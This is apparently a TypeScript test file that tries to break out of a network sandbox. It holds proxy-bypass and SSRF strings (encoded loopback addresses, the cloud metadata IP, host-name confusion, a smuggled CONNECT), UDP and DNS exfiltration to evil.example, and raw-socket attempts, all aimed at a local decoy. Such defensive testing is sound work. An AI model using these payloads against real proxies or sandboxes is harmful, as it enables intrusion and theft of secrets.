import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import { existsSync } from "node:fs";
import { connect, createServer } from "node:net";
import type { NetConnectOpts } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Attempt, Fixture } from "../attack.ts";
import { Refused } from "../attack.ts";
import { callAll, refuseUnless } from "../attacker-tools.ts";
import { fixturePolicy } from "../fixture.ts";

const [AF_INET, AF_NETLINK, AF_PACKET, AF_ALG, AF_VSOCK] = [2, 16, 17, 38, 40];
const [SOCK_STREAM, SOCK_RAW, SOCK_SEQPACKET] = [1, 3, 5];
const [NETLINK_AUDIT, NETLINK_KOBJECT_UEVENT] = [9, 15];
const ANSWER_MS = 3_000;

/** Connects, sends something, and returns the complete answer. */
async function sendAndRead(to: NetConnectOpts, request: string): Promise<string> {
  const socket = connect(to);
  const chunks: Buffer[] = [];
  socket.setTimeout(ANSWER_MS, () => socket.destroy());
  socket.on("data", (chunk: Buffer) => chunks.push(chunk));
  await new Promise((done, fail) => {
    socket.once("error", fail);
    socket.once("close", done);
    socket.write(request);
  });
  return Buffer.concat(chunks).toString("latin1");
}

const GET = "GET / HTTP/1.1\r\nhost: x\r\n\r\n";

/** The decoy answers with the secret, so reading it proves access. */
function connectAttack(name: string, numbers: readonly number[], to: (fixture: Fixture) => NetConnectOpts): Attempt {
  return {
    kind: "attempt",
    name,
    numbers,
    control: "plain",
    attempt: async (fixture) =>
      refuseUnless((await sendAndRead(to(fixture), GET)).includes(fixture.secret), "an answer from outside"),
  };
}

/** The same through a proxy: ours in the sandbox, one that allows everything without a sandbox. */
function proxyAttack(name: string, numbers: readonly number[], request: (fixture: Fixture) => string): Attempt {
  return {
    kind: "attempt",
    name,
    numbers,
    control: "plain",
    async attempt(fixture) {
      const answer = await sendAndRead({ port: fixture.proxyPort, host: "127.0.0.1" }, request(fixture));
      if (answer === "") throw new Refused("no answer");
      return refuseUnless(answer.includes(fixture.secret), answer.split("\r\n")[0] ?? "");
    },
  };
}

const tunnelAttack = (name: string, numbers: readonly number[], target: (fixture: Fixture) => string) =>
  proxyAttack(
    `open a tunnel to ${name}`,
    numbers,
    (fixture) => `CONNECT ${target(fixture)} HTTP/1.1\r\nhost: allowed.example:443\r\n\r\n${GET}`,
  );

const refuse = (error: unknown): never => {
  throw new Refused(String(error));
};

export const attacks: readonly Attack[] = [
  connectAttack("connect to the daemon's API directly", [22], ({ apiPort }) => ({ port: apiPort, host: "127.0.0.1" })),
  connectAttack("connect to the daemon's API with IPv6", [], ({ apiPort }) => ({
    port: apiPort,
    host: "::ffff:127.0.0.1",
  })),
  connectAttack("connect to the machine from another local address", [27], ({ apiPort }) => ({
    port: apiPort,
    host: "127.0.0.1",
    localAddress: "127.0.0.2",
  })),
  connectAttack("connect to a Unix socket by its path", [29], ({ socket }) => ({ path: socket })),
  connectAttack("connect to an abstract Unix socket", [30], ({ abstractSocket }) => ({ path: `\0${abstractSocket}` })),
  tunnelAttack("the daemon's API", [23], ({ apiPort }) => `127.0.0.1:${apiPort}`),
  tunnelAttack("the daemon's API as localhost", [], ({ apiPort }) => `localhost:${apiPort}`),
  tunnelAttack("the daemon's API as an IPv4-mapped IPv6 address", [], ({ apiPort }) => `[::ffff:127.0.0.1]:${apiPort}`),
  tunnelAttack("the daemon's API on the IPv6 loopback address", [], ({ apiPort }) => `[::1]:${apiPort}`),
  tunnelAttack("the daemon's API as a decimal number", [], ({ apiPort }) => `2130706433:${apiPort}`),
  tunnelAttack("the daemon's API in octal", [], ({ apiPort }) => `0177.0.0.1:${apiPort}`),
  tunnelAttack("the daemon's API in hexadecimal", [], ({ apiPort }) => `0x7f.1:${apiPort}`),
  tunnelAttack("the daemon's API as 0.0.0.0", [], ({ apiPort }) => `0.0.0.0:${apiPort}`),
  tunnelAttack("the cloud metadata service", [], () => "169.254.169.254:80"),
  tunnelAttack("a host in the local network", [], () => "192.168.0.1:443"),
  tunnelAttack("a host that is not listed", [25], () => "evil.example:443"),
  tunnelAttack("a listed host on another port", [26], () => "allowed.example:22"),
  tunnelAttack("a host whose name only begins like a listed one", [], () => "allowed.example.evil.example:443"),
  tunnelAttack("a host whose name only ends like a listed one", [], () => "notallowed.example:443"),
  tunnelAttack("a host with a listed name as user name", [], () => "allowed.example:443@evil.example:443"),
  tunnelAttack("a listed host name followed by an encoded NUL", [], () => "allowed.example%00.evil.example:443"),
  proxyAttack(
    "reach the daemon's API with a plain request to the proxy",
    [24],
    ({ apiPort }) => `GET http://127.0.0.1:${apiPort}/ HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`,
  ),
  proxyAttack(
    "send a plain request for a listed host with the Host header of another",
    [],
    () => "GET http://allowed.example/ HTTP/1.1\r\nhost: evil.example\r\n\r\n",
  ),
  proxyAttack(
    "reach the daemon's API with an upgrade request to the proxy",
    [],
    ({ apiPort }) =>
      `GET http://127.0.0.1:${apiPort}/ HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
  ),
  proxyAttack(
    "hide a CONNECT request behind another request",
    [],
    ({ apiPort }) => `GET / HTTP/1.1\r\nhost: x\r\n\r\nCONNECT 127.0.0.1:${apiPort} HTTP/1.1\r\n\r\n${GET}`,
  ),
  {
    kind: "attempt",
    name: "send a UDP datagram to the machine",
    numbers: [28],
    control: "plain",
    async attempt({ udpPort }) {
      const socket = createSocket("udp4");
      await new Promise<void>((done, fail) =>
        socket.send("x", udpPort, "127.0.0.1", (error) => (error === null ? done() : fail(error))),
      );
      // From inside the sandbox, the attacker cannot see whether it arrived.
      await sleep(100);
      socket.close();
      return "sent";
    },
    harm: ({ outside }) => (existsSync(join(outside, "datagram")) ? "the datagram arrived" : null),
  },
  {
    kind: "attempt",
    name: "send data in a DNS query",
    numbers: [28],
    control: "plain",
    async attempt({ udpPort }) {
      const resolver = new Resolver({ timeout: 300, tries: 1 });
      resolver.setServers([`127.0.0.1:${udpPort}`]);
      await resolver.resolve4("stolen.evil.example").catch(() => undefined);
      return "queried";
    },
    harm: ({ outside }) => (existsSync(join(outside, "datagram")) ? "the query arrived" : null),
  },
  {
    kind: "attempt",
    name: "look up a host name with the system resolver",
    control: { noneBecause: "it would query the machine's name servers" },
    attempt: async () => (await lookup("example.com").catch(refuse)).address,
  },
  {
    kind: "attempt",
    name: "listen on a network interface that others can reach",
    control: "plain",
    attempt: () => {
      const external = Object.values(networkInterfaces())
        .flat()
        .filter((each) => each !== undefined && !each.internal);
      return refuseUnless(external.length > 0, `interfaces ${external.map((each) => each?.address).join(", ")}`);
    },
  },
  {
    kind: "attempt",
    name: "listen on the machine's loopback interface",
    control: "plain",
    // Inside it may listen on loopback, which nothing else can reach. Outside it would be the machine's loopback.
    attempt: async ({ apiPort }) => {
      const server = createServer();
      const isInUse = await new Promise((done) =>
        server.once("error", () => done(true)).listen(apiPort, "127.0.0.1", () => done(false)),
      );
      server.close();
      return refuseUnless(isInUse === true, "the machine's loopback");
    },
  },
  ...(
    [
      ["AF_VSOCK, which connects to the host of a virtual machine", [31], [AF_VSOCK, SOCK_STREAM, 0], "plain"],
      ["raw packets", [32], [AF_PACKET, SOCK_RAW, 0x0300], "namespace"],
      ["raw IP packets", [], [AF_INET, SOCK_RAW, 1], "namespace"],
      ["netlink audit messages", [], [AF_NETLINK, SOCK_RAW, NETLINK_AUDIT], "plain"],
      ["netlink device events", [], [AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT], "plain"],
      ["the kernel's cryptography (AF_ALG)", [], [AF_ALG, SOCK_SEQPACKET, 0], "plain"],
    ] as const
  ).map(([name, numbers, args, control]): Attempt => ({
    kind: "attempt",
    name: `open a socket for ${name}`,
    numbers,
    control,
    attempt: () => callAll({ call: "socket", args: [...args] }),
  })),
  {
    kind: "multi_step",
    name: "connect to a host that is not listed without a record of the refusal",
    async guarded(context) {
      const { fixture } = context;
      const script = `"$NODE" -e 'require("net").connect(3128, "127.0.0.1", function () { this.end("CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n") })'`;
      const env = { PATH: "/usr/local/bin:/usr/bin:/bin", HOME: fixture.work, NODE: process.execPath };
      const policy = fixturePolicy(fixture, { network: ["allowed.example:443"], env });
      const { record, notes } = await context.run({ sandbox: "enforce", argv: ["sh", "-c", script], policy });
      const isRecorded = record.denials.some(({ target }) => target === "evil.example:443");
      return isRecorded && notes.includes("evil.example:443") ? null : `not recorded: ${JSON.stringify(record)}`;
    },
    control: { noneBecause: "without a sandbox no connection is refused" },
  },
];
